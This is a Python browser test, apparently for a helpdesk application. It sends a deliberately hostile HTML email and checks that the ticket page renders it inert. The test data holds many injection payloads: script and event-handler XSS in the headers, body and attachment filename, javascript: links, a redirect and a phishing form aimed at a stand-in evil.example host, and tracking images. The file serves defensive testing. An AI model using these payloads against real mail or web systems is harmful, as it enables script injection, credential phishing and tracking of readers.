"""A mail that tries everything, opened on its ticket page: it is read, and it can do nothing."""

from email.message import EmailMessage

import pytest
from playwright.sync_api import Route, expect

from tests.browser import clicking
from tests.desk_process import wait_until

MAILBOX = "help@desk.example"
OWNED = "document.title='owned'"
HOSTILE = f"""<html><head>
<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">
<link rel="stylesheet" href="https://evil.example/sheet.css">
<style>@import url(https://evil.example/import.css); .topbar {{ display: none }}</style>
<script>top.{OWNED}; top.location = "https://evil.example/script"</script></head>
<body onload="top.{OWNED}" background="https://evil.example/body.png">
<p style="position: fixed; inset: 0; z-index: 9999; background: url(https://evil.example/p.png)">
The real words.</p>
<img src="nothing" onerror="top.{OWNED}"><img src="https://evil.example/pixel.gif">
<img srcset="https://evil.example/set.gif 2x"><video src="https://evil.example/film.mp4" autoplay>
</video><a href="javascript:top.{OWNED}">a harmless link</a>
<form action="https://evil.example/form"><input name="password"><button>Sign in</button></form>
<iframe srcdoc="<script>top.{OWNED}</script>"></iframe><object data="https://evil.example/o">
</object><svg onload="top.{OWNED}"><script>top.{OWNED}</script></svg>
{"<p>One line of many.</p>" * 40}</body></html>"""


@pytest.fixture
def reader(desk, page):
    """Somebody signed in to a desk that got the mail, and every address the browser asked for."""
    clicking.set_up(page, desk.start_run())
    desk.do(
        "from postdesk.mail.models import IncomingMailAccount; "
        f"IncomingMailAccount.objects.create(email_address={MAILBOX!r})"
    )
    desk.do(
        "from postdesk.base import clock; from postdesk.flow.feeding import feed_message; "
        f"feed_message({hostile_mail()!r}, account_address={MAILBOX!r}, now=clock.now())"
    )
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.context.route("https://evil.example/**", fulfil)
    return page, asked


def hostile_mail() -> bytes:
    mail = EmailMessage()
    mail["From"] = '"<img src=x onerror=alert(1)>" <mallory@evil.example>'
    mail["To"] = MAILBOX
    mail["Subject"] = f"<script>{OWNED}</script>"
    mail["Message-ID"] = "<hostile@evil.example>"
    mail.set_content("Plain words.")
    mail.add_alternative(HOSTILE, subtype="html")
    mail.add_attachment(
        f"<script>top.{OWNED}</script>".encode(), "text", "html", filename='"><script>.html'
    )
    return mail.as_bytes()


def fulfil(route: Route) -> None:
    """Play the attacker's server, so that a request which gets out would also be answered."""
    route.fulfill(status=200, content_type="text/plain", body="got you")


def outside(asked: list[str], desk) -> list[str]:
    return [url for url in asked if not url.startswith((desk.url, "data:"))]


def test_hostile_mail_is_read_and_does_nothing(reader, desk):
    page, asked = reader
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.goto(f"{desk.url}/tickets/")
    page.locator(".ticket-row__subject").click()
    frame_element = page.locator("iframe.mail-frame")
    frame = page.frame_locator("iframe.mail-frame")
    expect(frame.get_by_text("The real words.")).to_be_visible()
    the_frame_shows_all_of_it_and_may_run_nothing(page, frame_element)
    clicks_inside_lead_nowhere(frame)

    assert page.title().startswith("#1 <script>")
    assert page.url == f"{desk.url}/tickets/1/"
    assert not dialogs
    assert not outside(asked, desk)
    the_reader_asks_for_the_pictures(page, frame, asked, desk)


def the_frame_shows_all_of_it_and_may_run_nothing(page, frame_element):
    sandbox = frame_element.get_attribute("sandbox").split()
    assert "allow-scripts" not in sandbox
    assert "allow-top-navigation" not in sandbox
    wait_until(
        lambda: int(frame_element.get_attribute("height") or 0) > 40 * 20,
        "the frame is as high as the mail",
    )
    expect(page.locator(".topbar")).to_be_visible()
    expect(page.get_by_label("Your text")).to_be_visible()


def clicks_inside_lead_nowhere(frame):
    frame.get_by_text("a harmless link").click()
    assert frame.locator("form, input, button, script, iframe, object, svg, video").count() == 0
    assert frame.locator("[onerror], [onload], [background], [href^=javascript]").count() == 0


def the_reader_asks_for_the_pictures(page, frame, asked, desk):
    """Then pictures come, and pictures only."""
    with page.expect_request("https://evil.example/**"):
        page.get_by_role("link", name="Load remote images").click()
    expect(frame.get_by_text("The real words.")).to_be_visible()
    assert set(outside(asked, desk)) == {"https://evil.example/pixel.gif"}
    assert page.title().startswith("#1 <script>")
